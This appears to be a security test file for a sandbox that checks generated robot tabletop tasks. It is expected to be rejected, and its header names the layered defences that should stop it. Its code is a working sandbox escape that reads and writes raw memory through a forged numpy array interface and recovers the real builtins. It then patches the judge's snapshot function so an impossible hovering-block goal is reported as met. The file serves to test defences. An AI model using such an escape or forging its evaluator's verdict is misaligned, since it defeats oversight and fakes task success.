# class: forged verdict: raw memory -> real import -> the worker's scene snapshots report an impossible goal met | stopped by: AST check (no id); behind it the runtime (type(), numpy_guard) and the judge apart (physics, oracle and snapshots run in a child that never ran task code)
# mode: task
# expect: rejected
# reject: name 'id' is not available to task code
import numpy as np
from cliport.tasks.task import Task
from cliport.utils import utils


def peek(addr, n):
    """n machine words at addr: a stand-in instance (its class from type(np)) with a crafted
    __array_interface__ is read by numpy as an array over any address."""
    RO = type(np)
    fake = RO("mem", {"__array_interface__": {"data": (addr, False), "shape": (n,), "typestr": "<u8", "version": 3}})
    return np.asarray(fake)


def obj_at(addr):
    box = [None]
    cell = peek(int(peek(id(box) + 24, 1)[0]), 1)  # the list's ob_item
    cell[0] = addr
    return box[0]


def real_builtins():
    # CPython 3.11 PyFunctionObject: refcnt, type, func_globals; a stand-in closure's globals are a real module's
    return obj_at(int(peek(id(utils.get_colors) + 16, 1)[0]))["__builtins__"]



def attack(block):
    b = real_builtins()
    judge = b["__import__"]("roboinstruct.tabletop.validate.worker.judge", None, None, ["snapshot"])
    real = b["getattr"](judge, "true_snapshot", None) or judge.snapshot
    b["setattr"](judge, "true_snapshot", real)  # every seed of this process lies afresh
    calls = [0]

    def lying(sim, goals):
        calls[0] += 1
        out = real(sim, goals)
        if calls[0] > 1:  # after reset the truth (so not 'trivial'), after each action the target
            out[str(block)] = [0.5, 0.2, 0.25, 0.0, 0.0, 0.0, 1.0]
        return out

    b["setattr"](judge, "snapshot", lying)


class FloatingBlock(Task):
    """Impossible: the block must hover 25 cm above the table."""

    def __init__(self):
        super().__init__()
        self.max_steps = 3
        self.lang_template = "hold the block in the air"

    def reset(self, env):
        super().reset(env)
        block = env.add_object("stacking/block.urdf", ((0.5, 0.0, 0.02), (0.0, 0.0, 0.0, 1.0)))
        target = ((0.5, 0.2, 0.25), (0.0, 0.0, 0.0, 1.0))
        self.add_goal(objs=[block], matches=np.ones((1, 1)), targ_poses=[target], replace=False, rotations=False,
                      metric="pose", params=None, step_max_reward=1, language_goal=self.lang_template)
        attack(block)

